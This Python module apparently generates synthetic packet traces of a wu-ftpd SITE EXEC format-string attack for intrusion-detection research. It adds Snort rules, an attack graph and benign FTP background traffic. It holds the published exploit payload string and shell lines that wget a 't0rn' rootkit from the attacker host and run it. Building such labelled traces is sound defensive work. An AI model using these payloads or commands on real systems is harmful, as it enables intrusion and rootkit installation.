"""Synthetic replay of the FTP format-string experiment.

The attack trace has three phases: an nmap SYN scan with OS-detection probes,
an FTP session to the victim that delivers a format-string variant payload
(``SITE EXEC`` followed by ``%p`` specifiers) and then drives the resulting
root shell, and a rootkit retrieval over that same channel. Benign FTP
sessions can be generated separately and merged in as background traffic.
"""

from __future__ import annotations

import ipaddress
import random
from dataclasses import dataclass

from .frames import tcp_frame
from .packet_codec import (
    LINKTYPE_ETHERNET,
    TCP_ACK,
    TCP_FIN,
    TCP_PSH,
    TCP_RST,
    TCP_SYN,
    TCP_URG,
    PacketRecord,
)
from .trace_tools import Trace, merge_with_origin, remap_labels

FTP_PORT = 21

FIG2_RULE = (
    'alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"FTP EXPLOIT format string"; '
    "flow:to_server,established; "
    'content:"SITE EXEC |25 30 32 30 64 7C 25 2E 66 25 2E 66 7C 0A|"; depth:32; nocase; '
    "reference:bugtraq,1387; reference:cve,2000-0573; sid:1971; rev:1;)"
)

RULES_TEXT = f"""\
# Signature set for the synthetic FTP format-string scenario.
var HOME_NET 10.1.1.0/24
var EXTERNAL_NET !$HOME_NET

alert tcp $EXTERNAL_NET any -> $HOME_NET any (msg:"SCAN nmap XMAS"; flow:stateless; flags:FPU,12; reference:arachnids,30; classtype:attempted-recon; sid:1228; rev:7;)
alert tcp $EXTERNAL_NET any -> $HOME_NET any (msg:"SCAN SYN FIN"; flow:stateless; flags:SF,12; reference:arachnids,198; classtype:attempted-recon; sid:624; rev:7;)
alert tcp $EXTERNAL_NET any -> $HOME_NET any (msg:"SCAN NULL"; flow:stateless; flags:0; reference:arachnids,4; classtype:attempted-recon; sid:623; rev:6;)
{FIG2_RULE}
alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"FTP CWD ~root attempt"; flow:to_server,established; content:"CWD"; nocase; content:"~root"; nocase; reference:cve,1999-0082; classtype:bad-unknown; sid:336; rev:10;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"FTP USER overflow attempt"; flow:to_server,established; content:"USER"; nocase; dsize:>100; reference:cve,2000-0479; classtype:attempted-admin; sid:1734; rev:8;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"FTP RNFR ././ attempt"; flow:to_server,established; content:"RNFR "; nocase; content:" ././"; nocase; classtype:misc-attack; sid:1622; rev:6;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 23 (msg:"TELNET SGI telnetd format bug"; flow:to_server,established; content:"_RLD"; content:"bin/sh"; reference:cve,2000-0733; classtype:attempted-admin; sid:711; rev:9;)
alert udp $EXTERNAL_NET any -> $HOME_NET 69 (msg:"TFTP GET passwd"; content:"passwd"; offset:2; nocase; reference:arachnids,137; classtype:successful-admin; sid:1443; rev:5;)
alert tcp $EXTERNAL_NET any -> $HOME_NET any (msg:"BACKDOOR t0rn rootkit retrieval"; flow:to_server,established; content:"t0rn"; nocase; classtype:trojan-activity; sid:1000001; rev:1;)
"""

GRAPH_TEXT = """\
# Three-exploit attack graph: scan, FTP format-string root exploit, rootkit.
exploit nmap-scan vuln="nmap port scan" port=0 refs=ARACHNIDS-30,ARACHNIDS-198,ARACHNIDS-4
exploit ftp-fmt vuln="wu-ftpd SITE EXEC format string" port=21 refs=CVE-2000-0573,BUGTRAQ-1387
exploit rootkit-download vuln="rootkit installation" port=21
condition reachable label="host reachable" initial=true
condition host-mapped label="host mapped"
condition root-shell label="root shell"
condition rootkit-installed label="rootkit installed"
pre reachable -> nmap-scan
post nmap-scan -> host-mapped
pre host-mapped -> ftp-fmt
post ftp-fmt -> root-shell
pre root-shell -> rootkit-download
post rootkit-download -> rootkit-installed
sigmap 1000001 -> rootkit-download
"""

VARIANT_PREFIX = b"SITE EXEC "
KNOWN_PAYLOAD = b"SITE EXEC %020d|%.f%.f|\n"


@dataclass(frozen=True)
class ScenarioConfig:
    attacker: str = "10.0.0.2"
    victim: str = "10.1.1.5"
    scan_ports: int = 530
    os_probes: int = 3
    login_commands: int = 6
    variant_specifiers: int = 40
    shell_output_segments: int = 930
    background_sessions: int = 0
    known_exploit: bool = False  # send the published payload instead of the variant
    seed: int = 1
    start_sec: int = 1_000_000_000

    def __post_init__(self):
        for name in ("scan_ports", "os_probes", "login_commands", "variant_specifiers",
                     "shell_output_segments", "background_sessions"):
            if getattr(self, name) < 0:
                raise ValueError(f"{name} must be non-negative")
        if self.variant_specifiers < 1:
            raise ValueError("variant_specifiers must be at least 1")
        if ipaddress.IPv4Address(self.attacker) == ipaddress.IPv4Address(self.victim):
            raise ValueError("attacker and victim must differ")


class _Clock:
    def __init__(self, start_us: int, rng: random.Random):
        self.now = start_us
        self.rng = rng

    def tick(self, lo_us: int, hi_us: int) -> int:
        self.now += self.rng.randint(lo_us, hi_us)
        return self.now


class _Recorder:
    def __init__(self):
        self.packets: list[tuple[int, bytes]] = []

    def add(self, ts_us: int, frame: bytes) -> int:
        self.packets.append((ts_us, frame))
        return len(self.packets) - 1

    def trace(self) -> tuple[Trace, list[int]]:
        order = sorted(range(len(self.packets)), key=lambda i: (self.packets[i][0], i))
        records = []
        for new, old in enumerate(order):
            ts, frame = self.packets[old]
            records.append(PacketRecord(new, ts // 1_000_000, ts % 1_000_000,
                                        LINKTYPE_ETHERNET, frame))
        return Trace(LINKTYPE_ETHERNET, records), order


class _Conn:
    """One TCP connection with sequence tracking; client is the initiator."""

    def __init__(self, rec: _Recorder, clock: _Clock, client, server,
                 cport: int, sport: int, rng: random.Random, rtt=(800, 3000)):
        self.rec, self.clock = rec, clock
        self.client, self.server = str(client), str(server)
        self.cport, self.sport = cport, sport
        self.cseq = rng.getrandbits(32)
        self.sseq = rng.getrandbits(32)
        self.rtt = rtt
        self.ident = rng.getrandbits(16)

    def _send(self, from_client: bool, flags: int, payload: bytes = b"",
              delay=None) -> int:
        ts = self.clock.tick(*(delay or self.rtt))
        self.ident += 1
        if from_client:
            frame = tcp_frame(self.client, self.server, self.cport, self.sport,
                              flags=flags, seq=self.cseq, ack=self.sseq if flags & TCP_ACK else 0,
                              payload=payload, ident=self.ident)
            self.cseq += len(payload) + (1 if flags & (TCP_SYN | TCP_FIN) else 0)
        else:
            frame = tcp_frame(self.server, self.client, self.sport, self.cport,
                              flags=flags, seq=self.sseq, ack=self.cseq if flags & TCP_ACK else 0,
                              payload=payload, ident=self.ident ^ 0x5555)
            self.sseq += len(payload) + (1 if flags & (TCP_SYN | TCP_FIN) else 0)
        return self.rec.add(ts, frame)

    def open(self) -> None:
        self._send(True, TCP_SYN)
        self._send(False, TCP_SYN | TCP_ACK)
        self._send(True, TCP_ACK)

    def client_says(self, data: bytes) -> int:
        i = self._send(True, TCP_PSH | TCP_ACK, data)
        return i

    def server_says(self, data: bytes, ack: bool = True) -> int:
        i = self._send(False, TCP_PSH | TCP_ACK, data)
        if ack:
            self._send(True, TCP_ACK, delay=(100, 400))
        return i

    def exchange(self, cmd: bytes, reply: bytes) -> int:
        i = self.client_says(cmd)
        self.server_says(reply)
        return i

    def close(self) -> None:
        self._send(True, TCP_FIN | TCP_ACK)
        self._send(False, TCP_FIN | TCP_ACK)
        self._send(True, TCP_ACK)


_LOGIN = [
    (b"SYST\r\n", b"215 UNIX Type: L8\r\n"),
    (b"PWD\r\n", b'257 "/" is current directory.\r\n'),
    (b"TYPE A\r\n", b"200 Type set to A.\r\n"),
    (b"CWD /pub\r\n", b"250 CWD command successful.\r\n"),
    (b"NOOP\r\n", b"200 NOOP command successful.\r\n"),
    (b"CWD /incoming\r\n", b"250 CWD command successful.\r\n"),
    (b"STAT\r\n", b"211 Status follows.\r\n"),
    (b"HELP SITE\r\n", b"214 The following SITE commands are recognized.\r\n"),
]

_SHELL_LINES = [
    "drwxr-xr-x   2 root     root         4096 Mar  3  2000 bin",
    "drwxr-xr-x  17 root     root        86016 Jun 12  2000 dev",
    "drwxr-xr-x  42 root     root         4096 Jun 12  2000 etc",
    "-rw-r--r--   1 root     root        17404 Feb 28  2000 libc.so.6",
    "-rwxr-xr-x   1 root     root       373176 Mar  7  2000 sshd",
    "lrwxrwxrwx   1 root     root           11 Mar  3  2000 sh -> bash",
]


def _scan(rec: _Recorder, clock: _Clock, rng: random.Random, cfg: ScenarioConfig,
          open_ports: set[int]) -> None:
    a, v = cfg.attacker, cfg.victim
    sport = rng.randint(40000, 60000)
    ports = list(range(1, cfg.scan_ports + 1))
    rng.shuffle(ports)
    for port in ports:
        seq = rng.getrandbits(32)
        rec.add(clock.tick(200, 1500),
                tcp_frame(a, v, sport, port, flags=TCP_SYN, seq=seq, window=1024))
        if port in open_ports:
            rec.add(clock.tick(100, 600),
                    tcp_frame(v, a, port, sport, flags=TCP_SYN | TCP_ACK,
                              seq=rng.getrandbits(32), ack=seq + 1))
            rec.add(clock.tick(50, 200),
                    tcp_frame(a, v, sport, port, flags=TCP_RST, seq=seq + 1))
        else:
            rec.add(clock.tick(100, 600),
                    tcp_frame(v, a, port, sport, flags=TCP_RST | TCP_ACK, ack=seq + 1))
    closed = max(cfg.scan_ports + 1, 2)
    for _ in range(cfg.os_probes):
        seq = rng.getrandbits(32)
        # OS detection probe: FIN+PSH+URG to a closed port
        rec.add(clock.tick(2000, 8000),
                tcp_frame(a, v, sport + 7, closed, flags=TCP_FIN | TCP_PSH | TCP_URG,
                          seq=seq, window=65535))
        rec.add(clock.tick(100, 600),
                tcp_frame(v, a, closed, sport + 7, flags=TCP_RST | TCP_ACK, ack=seq))


def synth_attack(cfg: ScenarioConfig = ScenarioConfig()) -> tuple[Trace, list[int]]:
    """Generate the attack trace and the index of the variant packet."""
    rng = random.Random(cfg.seed)
    rec = _Recorder()
    clock = _Clock(cfg.start_sec * 1_000_000, rng)
    _scan(rec, clock, rng, cfg, {21, 22, 111})
    clock.tick(500_000, 2_000_000)

    c = _Conn(rec, clock, cfg.attacker, cfg.victim, rng.randint(1024, 5000), FTP_PORT, rng,
              rtt=(2000, 20000))
    c.open()
    c.server_says(b"220 victim FTP server (Version wu-2.6.0(1) Mon Feb 28 10:30:36 "
                  b"EST 2000) ready.\r\n")
    c.exchange(b"USER ftp\r\n", b"331 Guest login ok, send your e-mail as password.\r\n")
    c.exchange(b"PASS mozilla@\r\n", b"230 Guest login ok, access restrictions apply.\r\n")
    for i in range(cfg.login_commands):
        cmd, reply = _LOGIN[i % len(_LOGIN)]
        c.exchange(cmd, reply)

    if cfg.known_exploit:
        variant = KNOWN_PAYLOAD
    else:
        variant = VARIANT_PREFIX + b"%p" * cfg.variant_specifiers + b"\n"
    truth = c.client_says(variant)
    c.server_says(b"200-" + b"0x8074c4c" * 4 + b"\r\n", ack=False)
    c.server_says(b"200 (end of 'SITE EXEC')\r\n")

    c.exchange(b"id\n", b"uid=0(root) gid=0(root) groups=50(ftp)\n")
    c.exchange(b"uname -a\n", b"Linux victim 2.2.14-5.0 #1 Tue Mar 7 21:07:39 EST 2000 i686\n")
    c.client_says(b"ls -laR /\n")
    for i in range(cfg.shell_output_segments):
        lines = "\n".join(rng.choice(_SHELL_LINES) for _ in range(rng.randint(4, 20)))
        c.server_says(lines.encode() + b"\n")
    c.exchange(f"cd /tmp; wget -q http://{cfg.attacker}/t0rn.tgz\n".encode(),
               b"t0rn.tgz saved\n")
    c.exchange(b"tar xzf t0rn.tgz; cd tk; ./t0rn\n", b"Installing...\n")
    c.close()

    trace, order = rec.trace()
    return trace, [order.index(truth)]


_BG_FILES = ["README", "ls-lR.gz", "pub/gnu/emacs-20.7.tar.gz", "pub/X11/xfree86.tgz",
             "pub/papers/tcp.ps", "pub/linux/kernel/v2.2/patch-2.2.16.gz", "welcome.msg"]


def synth_background(cfg: ScenarioConfig, span_us: int, start_us: int | None = None,
                     target_packets: int | None = None) -> Trace:
    """Benign FTP sessions from external clients to the victim's FTP service.

    Sessions start uniformly over ``span_us``. Generation stops after
    ``cfg.background_sessions`` sessions, or once ``target_packets`` is reached
    when that is given.
    """
    rng = random.Random((cfg.seed << 1) ^ 0x5EED)
    rec = _Recorder()
    base = cfg.start_sec * 1_000_000 if start_us is None else start_us
    n = 0
    while True:
        if target_packets is None and n >= cfg.background_sessions:
            break
        if target_packets is not None and len(rec.packets) >= target_packets:
            break
        client = ipaddress.IPv4Address(0x83F30000 + rng.randint(1, 0xFFFE))  # 131.243/16
        clock = _Clock(base + rng.randint(0, max(span_us, 1)), rng)
        ctl = _Conn(rec, clock, client, cfg.victim, rng.randint(1024, 65000), FTP_PORT, rng,
                    rtt=(5000, 60000))
        ctl.open()
        ctl.server_says(b"220 victim FTP server (Version wu-2.6.0(1)) ready.\r\n")
        ctl.exchange(b"USER anonymous\r\n", b"331 Guest login ok.\r\n")
        ctl.exchange(f"PASS guest{rng.randint(1, 999)}@\r\n".encode(), b"230 Guest login ok.\r\n")
        ctl.exchange(b"SYST\r\n", b"215 UNIX Type: L8\r\n")
        for _ in range(rng.randint(1, 4)):
            ctl.exchange(b"TYPE I\r\n", b"200 Type set to I.\r\n")
            dport = rng.randint(20000, 40000)
            ctl.exchange(b"PASV\r\n", (f"227 Entering Passive Mode (10,1,1,5,"
                                       f"{dport >> 8},{dport & 0xFF})\r\n").encode())
            data = _Conn(rec, clock, client, cfg.victim, rng.randint(1024, 65000), dport, rng,
                         rtt=(500, 5000))
            data.open()
            ctl.exchange(f"RETR {rng.choice(_BG_FILES)}\r\n".encode(),
                         b"150 Opening BINARY mode data connection.\r\n")
            for _ in range(rng.randint(2, 30)):
                data.server_says(rng.randbytes(rng.choice((512, 1024, 1460))))
            data.close()
            ctl.server_says(b"226 Transfer complete.\r\n")
        ctl.exchange(b"QUIT\r\n", b"221 Goodbye.\r\n")
        ctl.close()
        n += 1
    return rec.trace()[0]


def synth_scenario(cfg: ScenarioConfig = ScenarioConfig(),
                   background_ratio: float | None = None) -> tuple[Trace, list[int]]:
    """Attack trace, merged with background sessions when any are requested.

    ``background_ratio`` sizes the background by packet count relative to the
    attack trace instead of by session count.
    """
    attack, labels = synth_attack(cfg)
    if not cfg.background_sessions and not background_ratio:
        return attack, labels
    span = attack.records[-1].ts_micros - attack.records[0].ts_micros
    target = int(background_ratio * len(attack)) if background_ratio else None
    background = synth_background(cfg, span, attack.records[0].ts_micros, target)
    merged, origin = merge_with_origin(background, attack)
    return merged, remap_labels(labels, origin)
